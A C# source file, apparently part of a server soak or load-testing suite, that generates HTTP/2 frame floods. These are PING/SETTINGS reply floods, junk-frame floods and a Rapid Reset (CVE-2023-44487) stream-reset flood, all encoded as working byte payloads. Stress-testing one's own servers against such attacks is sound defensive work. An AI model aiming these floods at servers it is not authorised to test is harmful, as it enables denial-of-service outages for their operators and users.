using System.Buffers.Binary;

namespace Heliograph.Soak.Load;

/// <summary>Floods of HTTP/2 frames (RFC 9113).</summary>
internal static class Frames
{
    private const int Headers = 1, Priority = 2, Reset = 3, Settings = 4, Ping = 6, Window = 8;

    private static readonly byte[] Preface = [.. "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8, .. Frame(Settings, 0, 0)];

    // Of the static table (RFC 7541 appendix A): GET, https, "/".
    private static readonly byte[] Get = [0x82, 0x87, 0x84, 0x01, 1, (byte)'x'];

    /// <summary>Frames that ask for an answer each.</summary>
    public static byte[] Pings(int count) => Flood(count, static i => i % 2 == 0
        ? Frame(Ping, 0, 0, new byte[8])
        : Frame(Settings, 0, 0, 0, 4, 0, 0, 0xff, (byte)i));

    /// <summary>Requests that are taken back at once (CVE-2023-44487).</summary>
    public static byte[] Resets(int count) => Flood(count, static i =>
    [
        .. Frame(Headers, 5, (2 * i) + 1, Get), .. Frame(Reset, 0, (2 * i) + 1, 0, 0, 0, 8),
    ]);

    /// <summary>Frames that mean nothing.</summary>
    public static byte[] Noise(int count) => Flood(count, static i => (i % 3) switch
    {
        0 => Frame(Priority, 0, (2 * i) + 1, 0, 0, 0, 0, 15),
        1 => Frame(Window, 0, 0, 0, 0, 0, 1),
        _ => Frame(77, 0, 0, new byte[40]),
    });

    private static byte[] Flood(int count, Func<int, byte[]> next) => [.. Preface, .. Enumerable.Range(0, count).SelectMany(next)];

    private static byte[] Frame(int type, int flags, int stream, params byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteInt32BigEndian(frame, (payload.Length << 8) | type);
        frame[4] = (byte)flags;
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }
}
